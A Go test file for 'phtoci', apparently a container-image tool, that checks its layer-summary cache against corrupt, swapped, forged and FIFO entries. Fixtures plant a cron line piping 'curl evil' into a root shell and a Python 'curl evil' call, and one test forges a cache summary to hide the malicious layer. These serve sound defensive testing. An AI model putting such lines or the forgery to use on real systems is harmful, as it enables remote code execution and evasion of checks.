package main

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/phtoci/phtoci/internal/testreg"
	"github.com/phtoci/phtoci/internal/testutil"
	"github.com/phtoci/phtoci/oci"
)

// cacheWorld is a registry, a master image with a big layer of random
// bytes (and extra files), and trains built on it without phtoci's label
// (another builder's, or after a hop through a station that drops it).
type cacheWorld struct {
	*world
	reg    *testreg.Registry
	master string  // oci-archive: reference
	big    v1.Hash // the big layer's digest
}

func newCacheWorld(t *testing.T, bigSize int, extra map[string][]byte) *cacheWorld {
	t.Helper()
	w := &cacheWorld{world: newWorld(t, "st1"), reg: testreg.Start(t, testreg.Options{})}
	big := make([]byte, bigSize)
	rand.Read(big)
	files := map[string][]byte{"usr/share/master/big.bin": big}
	for k, v := range extra {
		files[k] = v
	}
	img := appendFiles(t, openRef(t, "../../testdata/sample/master.oci.tar", oci.Options{}), files)
	ls, err := img.Layers()
	testutil.Must(t, err)
	w.big, err = ls[len(ls)-1].Digest()
	testutil.Must(t, err)
	w.master = "oci-archive:" + w.path("master.tar")
	writeRef(t, img, w.master, oci.Options{})
	return w
}

// train builds a train on the master and pushes it, without phtoci's
// labels, to the registry as name.
func (w *cacheWorld) train(t *testing.T, name string) string {
	t.Helper()
	local := "oci-archive:" + w.path(name+".tar")
	args := []string{"build", w.master, "--files", "../../testdata/sample/train",
		"--query", "../../testdata/sample/query.json", "--creator-id", "researcher-1",
		"--user-key", w.key("researcher"), "--builder-key", w.key("builder"), "-o", local, "--quiet",
		"--route", "st1=" + w.path("st1") + ".pub.pem", "--cache", "none"}
	ok(t, args...)
	ref := w.reg.Host + "/pht/" + name + ":built"
	writeRef(t, withoutWhiteouts(t, unlabelled(t, local)), ref, oci.Options{})
	return ref
}

// withoutWhiteouts drops the whiteouts and opaque markers from img's top
// layer, as a train built by another tool (COPY into /opt) has none: then
// no train path is settled by it and every layer is read.
func withoutWhiteouts(t *testing.T, img v1.Image) v1.Image {
	t.Helper()
	ls, err := img.Layers()
	testutil.Must(t, err)
	rc, err := ls[len(ls)-1].Uncompressed()
	testutil.Must(t, err)
	defer rc.Close()
	var buf bytes.Buffer
	tr, tw := tar.NewReader(rc), tar.NewWriter(&buf)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		testutil.Must(t, err)
		if strings.HasPrefix(path.Base(h.Name), ".wh.") {
			continue
		}
		testutil.Must(t, tw.WriteHeader(h))
		_, err = io.Copy(tw, tr)
		testutil.Must(t, err)
	}
	testutil.Must(t, tw.Close())
	data := buf.Bytes()
	l := testutil.Layer(t, data)
	adds := make([]mutate.Addendum, 0, len(ls))
	for _, x := range ls[:len(ls)-1] {
		adds = append(adds, mutate.Addendum{Layer: x})
	}
	out, err := mutate.Append(empty.Image, append(adds, mutate.Addendum{Layer: l})...)
	testutil.Must(t, err)
	cf, err := img.ConfigFile()
	testutil.Must(t, err)
	cf = cf.DeepCopy()
	cf.RootFS.DiffIDs[len(ls)-1], err = l.DiffID()
	testutil.Must(t, err)
	out, err = mutate.ConfigFile(out, cf)
	testutil.Must(t, err)
	return out
}

// decrypted pre-runs train (without a cache) and pushes the decrypted
// image, without phtoci's labels, as train's -dec tag.
func (w *cacheWorld) decrypted(t *testing.T, train string) string {
	t.Helper()
	local := "oci-archive:" + w.path(strings.ReplaceAll(train[strings.LastIndex(train, "/")+1:], ":", "-")+"-dec.tar")
	ok(t, append([]string{"pre-run", train, "-o", local, "--cache", "none"}, w.stationArgs("st1")...)...)
	ref := strings.TrimSuffix(train, ":built") + ":dec"
	writeRef(t, unlabelled(t, local), ref, oci.Options{})
	return ref
}

func unlabelled(t *testing.T, ref string) v1.Image {
	t.Helper()
	img := openRef(t, ref, oci.Options{})
	cf, err := img.ConfigFile()
	testutil.Must(t, err)
	cf = cf.DeepCopy()
	cf.Config.Labels = nil
	img, err = mutate.ConfigFile(img, cf)
	testutil.Must(t, err)
	return img
}

// TestCacheReadsBaseOnce: with a cache, hop 1's post-run (registry →
// registry, no label: every layer is read) of a second train on the same
// master, and keyless verify of it, download nothing of the master's big
// layer; without the cache they download all of it. PHTOCI_CACHE_BENCH_MIB
// sets the big layer's size (default 8); the figures in bench/cache.md are
// this test's log at 64.
func TestCacheReadsBaseOnce(t *testing.T) {
	mib := 8
	if v := os.Getenv("PHTOCI_CACHE_BENCH_MIB"); v != "" {
		n, err := strconv.Atoi(v)
		testutil.Must(t, err)
		mib = n
	}
	w := newCacheWorld(t, mib<<20, nil)
	cache := w.path("cache")
	a, b := w.train(t, "a"), w.train(t, "b")
	aDec, bDec := w.decrypted(t, a), w.decrypted(t, b)
	results := w.results(t, "st1")
	run := func(what string, args ...string) testreg.Stats {
		t.Helper()
		w.reg.ResetStats()
		start := time.Now()
		ok(t, args...)
		st := w.reg.Stats()
		t.Logf("%-52s %11d blob bytes down (%d of the %d MiB layer) %6.2f s", what, st.BlobBytesDown, st.BlobGets[w.big.String()], mib, time.Since(start).Seconds())
		return st
	}
	postRun := func(what, in, out, cache string) testreg.Stats {
		t.Helper()
		return run(what, append([]string{"post-run", in, "--results", results, "-o", out, "--cache", cache}, w.stationArgs("st1")...)...)
	}
	none := postRun("hop-1 post-run, train b, --cache none", bDec, w.reg.Host+"/pht/b:post-nocache", "none")
	if none.BlobGets[w.big.String()] == 0 || none.BlobBytesDown < int64(mib)<<20 {
		t.Errorf("post-run with --cache none: big layer fetched %d times, %d bytes down; want all of it", none.BlobGets[w.big.String()], none.BlobBytesDown)
	}
	first := postRun("hop-1 post-run, train a, empty cache", aDec, w.reg.Host+"/pht/a:post", cache)
	if first.BlobGets[w.big.String()] == 0 {
		t.Fatalf("first post-run did not read the master's big layer: %+v", first.BlobGets)
	}
	ents, err := os.ReadDir(cache)
	testutil.Must(t, err)
	if len(ents) == 0 {
		t.Fatal("the first post-run left the cache empty")
	}
	second := postRun("hop-1 post-run, train b, master cached", bDec, w.reg.Host+"/pht/b:post", cache)
	if n := second.BlobGets[w.big.String()]; n != 0 || second.BlobBytesDown > 1<<20 {
		t.Errorf("post-run of a second train on the cached master: big layer fetched %d times, %d blob bytes down, want 0 and < 1 MiB", n, second.BlobBytesDown)
	}
	ok(t, "verify", w.reg.Host+"/pht/b:post", "--quiet", "--cache", "none")

	if st := run("keyless verify, train b, --cache none", "verify", b, "--quiet", "--cache", "none"); st.BlobGets[w.big.String()] == 0 {
		t.Errorf("keyless verify without the cache did not read the big layer")
	}
	if st := run("keyless verify, train a, empty cache for its paths", "verify", a, "--quiet", "--cache", cache); st.BlobGets[w.big.String()] == 0 {
		t.Errorf("keyless verify of the first train did not read the big layer (its summary is for other paths)")
	}
	if st := run("keyless verify, train b, master cached", "verify", b, "--quiet", "--cache", cache); st.BlobGets[w.big.String()] != 0 || st.BlobBytesDown > 1<<20 {
		t.Errorf("keyless verify of a train on the cached master: big layer fetched %d times, %d blob bytes down", st.BlobGets[w.big.String()], st.BlobBytesDown)
	}
}

// TestCacheHiddenTrainFile: a base layer that hides the plaintext of a
// train file under /opt/pht_train (shadowed by the train's own layer) is
// refused by post-run's leak check when it reads the base, and still when
// it only replays the base's cached summary.
func TestCacheHiddenTrainFile(t *testing.T) {
	plain, err := os.ReadFile("../../testdata/sample/train/entrypoint.py")
	testutil.Must(t, err)
	w := newCacheWorld(t, 4<<20, map[string][]byte{"opt/pht_train/entrypoint.py": plain})
	cache := w.path("cache")
	results := w.results(t, "st1")
	for i, name := range []string{"a", "b"} {
		dec := w.decrypted(t, w.train(t, name))
		w.reg.ResetStats()
		out := w.reg.Host + "/pht/" + name + ":post"
		fails(t, exitVerification, nil, append([]string{"post-run", dec, "--results", results, "-o", out, "--cache", cache}, w.stationArgs("st1")...), "opt/pht_train/entrypoint.py", "plaintext")
		if n := w.reg.Stats().BlobGets[w.big.String()]; (i == 0) != (n > 0) {
			t.Errorf("post-run %d fetched the base layer %d times (want: the first only)", i+1, n)
		}
		if _, err := oci.Open(t.Context(), mustRef(t, out), oci.Options{}); err == nil {
			t.Errorf("a refused post-run pushed %s", out)
		}
	}
}

func mustRef(t *testing.T, s string) oci.Ref {
	t.Helper()
	r, err := oci.ParseRef(s)
	testutil.Must(t, err)
	return r
}

// TestCacheCorruptEntry: damaged cache entries (a flipped byte, a
// truncated file, another layer's summary under this layer's name) are
// ignored: the layer is read again and the entry rebuilt.
func TestCacheCorruptEntry(t *testing.T) {
	w := newCacheWorld(t, 4<<20, nil)
	cache := w.path("cache")
	dec := w.decrypted(t, w.train(t, "a"))
	results := w.results(t, "st1")
	run := func(out string) int {
		t.Helper()
		w.reg.ResetStats()
		ok(t, append([]string{"post-run", dec, "--results", results, "-o", w.reg.Host + "/pht/a:" + out, "--cache", cache}, w.stationArgs("st1")...)...)
		return w.reg.Stats().BlobGets[w.big.String()]
	}
	if run("p1") == 0 {
		t.Fatal("first post-run did not read the big layer")
	}
	entry := ""
	ents, err := os.ReadDir(cache)
	testutil.Must(t, err)
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), w.big.Algorithm+"-"+w.big.Hex) {
			entry = filepath.Join(cache, e.Name())
		}
	}
	if entry == "" {
		t.Fatalf("no cache entry for %s among %d", w.big, len(ents))
	}
	good, err := os.ReadFile(entry)
	testutil.Must(t, err)
	var other []byte
	for _, e := range ents {
		if p := filepath.Join(cache, e.Name()); p != entry {
			other, err = os.ReadFile(p)
			testutil.Must(t, err)
			break
		}
	}
	flipped := bytes.Clone(good)
	flipped[len(flipped)-3] ^= 1
	for i, tc := range []struct {
		name string
		bad  []byte
	}{{"flipped", flipped}, {"truncated", good[:len(good)/2]}, {"another layer's", other}, {"empty", nil}} {
		testutil.Must(t, os.WriteFile(entry, tc.bad, 0o600))
		if run(fmt.Sprintf("p%d", i+2)) == 0 {
			t.Errorf("%s entry trusted: the big layer was not read", tc.name)
		}
		if got, err := os.ReadFile(entry); err != nil || !bytes.Equal(got, good) {
			t.Errorf("%s entry not rebuilt (err %v)", tc.name, err)
		}
	}
	if n := run("p-last"); n != 0 {
		t.Errorf("rebuilt entry not used: big layer fetched %d times", n)
	}
}

// TestCacheSwappedBlob: once the master is cached, its big layer's
// content cannot be changed behind its digest: the registry refuses other
// bytes uploaded under it, and bytes swapped in its storage fail the digest
// check of a read without the cache.
func TestCacheSwappedBlob(t *testing.T) {
	w := newCacheWorld(t, 4<<20, nil)
	cache := w.path("cache")
	dec := w.decrypted(t, w.train(t, "a"))
	results := w.results(t, "st1")
	args := func(out, cache string) []string {
		return append([]string{"post-run", dec, "--results", results, "-o", w.reg.Host + "/pht/a:" + out, "--cache", cache}, w.stationArgs("st1")...)
	}
	ok(t, args("p1", cache)...)

	// Other bytes uploaded under the cached digest: the registry's check.
	resp, err := http.Post(w.reg.URL()+"/v2/pht/evil/blobs/uploads/", "", nil)
	testutil.Must(t, err)
	resp.Body.Close()
	loc, err := resp.Location()
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("starting an upload: %s, location %v", resp.Status, err)
	}
	q := loc.Query()
	q.Set("digest", w.big.String())
	loc.RawQuery = q.Encode()
	req, err := http.NewRequest(http.MethodPut, loc.String(), strings.NewReader("other content"))
	testutil.Must(t, err)
	resp, err = http.DefaultClient.Do(req)
	testutil.Must(t, err)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("registry answered %s to other content uploaded under %s, want 400 Bad Request", resp.Status, w.big)
	}

	// Bytes swapped in the registry's storage: our digest check.
	data := filepath.Join(w.reg.StorageDir, "docker/registry/v2/blobs/sha256", w.big.Hex[:2], w.big.Hex, "data")
	orig, err := os.ReadFile(data)
	testutil.Must(t, err)
	swapped := bytes.Clone(orig)
	swapped[len(swapped)/2] ^= 0xff
	testutil.Must(t, os.WriteFile(data, swapped, 0o644))
	fails(t, exitIO, nil, args("p2", "none"), w.big.Hex[:12])
	// A fresh cache reads it, and is not filled from it.
	fresh := w.path("fresh")
	fails(t, exitIO, nil, args("p3", fresh), w.big.Hex[:12])
	if ents, _ := os.ReadDir(fresh); containsPrefix(ents, w.big.Algorithm+"-"+w.big.Hex) {
		t.Error("a summary was stored for a blob that failed its digest check")
	}
}

func containsPrefix(ents []os.DirEntry, prefix string) bool {
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), prefix) {
			return true
		}
	}
	return false
}

// TestCacheUnusableDir: a cache directory that cannot be made (named by
// PHTOCI_CACHE) gives one warning and the command runs without it;
// PHTOCI_CACHE names the directory used otherwise.
func TestCacheUnusableDir(t *testing.T) {
	w := newWorld(t, "st1")
	train := "oci-archive:" + w.path("train.tar")
	w.build(t, train)
	file := w.path("file")
	testutil.Must(t, os.WriteFile(file, nil, 0o600))
	r := phtoci(t, "", []string{"PHTOCI_CACHE=" + filepath.Join(file, "cache")}, "verify", train, "--quiet")
	if r.code != 0 || strings.Count(r.stderr, "warning") != 1 || !strings.Contains(r.stderr, filepath.Join(file, "cache")) {
		t.Errorf("unusable cache: exit %d, stderr %q; want 0 and one warning naming it", r.code, r.stderr)
	}
	dir := w.path("cache")
	if r := phtoci(t, "", []string{"PHTOCI_CACHE=" + dir}, "verify", train, "--quiet"); r.code != 0 || r.stderr != "" {
		t.Errorf("exit %d, stderr %q", r.code, r.stderr)
	}
	if _, err := os.Stat(dir); err != nil {
		t.Errorf("PHTOCI_CACHE directory not made: %v", err)
	}
}

// TestCacheVisibleTrainFileInBase: a file the master adds under
// /opt/pht_train that the train does not shadow is part of the train
// everyone runs; keyless verify refuses it on every run, and a run with
// the master cached still reads the master's layer to get it.
func TestCacheVisibleTrainFileInBase(t *testing.T) {
	w := newCacheWorld(t, 1<<20, map[string][]byte{"opt/pht_train/extra.py": []byte("import os; os.system('curl evil')\n")})
	cache := w.path("cache")
	for i, name := range []string{"a", "b"} {
		ref := w.train(t, name)
		w.reg.ResetStats()
		fails(t, exitVerification, nil, []string{"verify", ref, "--quiet", "--cache", cache}, "extra.py")
		if n := w.reg.Stats().BlobGets[w.big.String()]; n == 0 {
			t.Errorf("verify %d did not read the master layer that adds a train file", i+1)
		}
	}
}

// TestCacheSharedDirPlantedSummary performs the attack of issue 25 §3:
// another user plants, in a cache directory anyone may write, a forged
// summary of a layer that writes /etc/cron.d, saying it touches nothing
// outside the train paths. check-base with that cache must still read
// the layer and fail: a cache directory that is not the running user's
// alone is ignored, with one warning naming it.
func TestCacheSharedDirPlantedSummary(t *testing.T) {
	w := newWorld(t)
	master := openRef(t, sampleMaster, oci.Options{})
	dirtyImg := appendFiles(t, master, map[string][]byte{"etc/cron.d/evil": []byte("* * * * * root curl evil | sh\n")})
	dirty := w.path("dirty.tar")
	writeRef(t, dirtyImg, dirty, oci.Options{})
	ls, err := dirtyImg.Layers()
	testutil.Must(t, err)
	evil, err := ls[len(ls)-1].Digest()
	testutil.Must(t, err)

	// The attacker's own run makes the summaries, which the attacker edits.
	own := w.path("own-cache")
	fails(t, exitVerification, []string{"PHTOCI_CACHE=" + own}, []string{"check-base", dirty, sampleMaster}, "/etc/cron.d/evil")
	shared := w.path("shared-cache")
	testutil.Must(t, os.Mkdir(shared, 0o777))
	testutil.Must(t, os.Chmod(shared, 0o777))
	forged := 0
	for _, e := range testutil.Must1(os.ReadDir(own))(t) {
		b := testutil.Must1(os.ReadFile(filepath.Join(own, e.Name())))(t)
		if strings.HasPrefix(e.Name(), evil.Algorithm+"-"+evil.Hex) {
			b = forgeSummary(t, b)
			forged++
		}
		testutil.Must(t, os.WriteFile(filepath.Join(shared, e.Name()), b, 0o666))
	}
	if forged == 0 {
		t.Fatalf("no summary of the layer %s to forge", evil)
	}
	r := phtoci(t, "", []string{"PHTOCI_CACHE=" + shared}, "check-base", dirty, sampleMaster, "--quiet")
	if r.code != exitVerification || !strings.Contains(r.stderr, "/etc/cron.d/evil") {
		t.Errorf("check-base with the planted summary: exit %d, stderr %q; want %d naming /etc/cron.d/evil", r.code, r.stderr, exitVerification)
	}
	if strings.Count(r.stderr, "warning") != 1 || !strings.Contains(r.stderr, shared) || !strings.Contains(r.stderr, "not private") {
		t.Errorf("stderr %q: want one warning that %s is not private", r.stderr, shared)
	}
}

// forgeSummary rewrites a layer summary (a header line "VERSION SHA256",
// then JSON) to say that the layer touches nothing outside the train
// paths, with a matching header.
func forgeSummary(t *testing.T, b []byte) []byte {
	t.Helper()
	header, body, ok := bytes.Cut(b, []byte("\n"))
	if !ok {
		t.Fatalf("summary %q has no header line", b)
	}
	var s map[string]any
	testutil.Must(t, json.Unmarshal(body, &s))
	delete(s, "outside")
	delete(s, "touchesOutside")
	body = testutil.Must1(json.Marshal(s))(t)
	sum := sha256.Sum256(body)
	version, _, _ := strings.Cut(string(header), " ")
	return append([]byte(version+" "+hex.EncodeToString(sum[:])+"\n"), body...)
}

// TestCacheEntryFIFO: cache entries replaced by FIFOs (issue 30: verify
// and pre-run hung reading them) or symlinks are not read: verify and
// pre-run finish and succeed. The timeout only fails the test.
func TestCacheEntryFIFO(t *testing.T) {
	w := newCacheWorld(t, 1<<20, nil)
	train := w.train(t, "a") // no label: summaries of the master's layers are used
	cache := w.path("cache")
	ok(t, "verify", train, "--quiet", "--cache", cache)
	ents := testutil.Must1(os.ReadDir(cache))(t)
	if len(ents) == 0 {
		t.Fatal("verify stored no layer summary")
	}
	decoy := w.path("decoy")
	testutil.Must(t, os.WriteFile(decoy, []byte("not a summary"), 0o600))
	for i, e := range ents {
		p := filepath.Join(cache, e.Name())
		testutil.Must(t, os.Remove(p))
		if i%2 == 0 {
			testutil.Must(t, syscall.Mkfifo(p, 0o600))
		} else {
			testutil.Must(t, os.Symlink(decoy, p))
		}
	}
	for _, args := range [][]string{
		{"verify", train, "--quiet", "--cache", cache},
		append([]string{"pre-run", train, "-o", "oci-archive:" + w.path("dec.tar"), "--cache", cache}, w.stationArgs("st1")...),
	} {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		cmd := exec.CommandContext(ctx, phtociBin, args...)
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "TMPDIR=" + t.TempDir()}
		out, err := cmd.CombinedOutput()
		if ctx.Err() != nil {
			t.Fatalf("%s hung on the FIFO cache entries (killed after 2 min)", args[0])
		}
		cancel()
		if err != nil {
			t.Errorf("%s: %v\n%s", args[0], err, out)
		}
	}
}
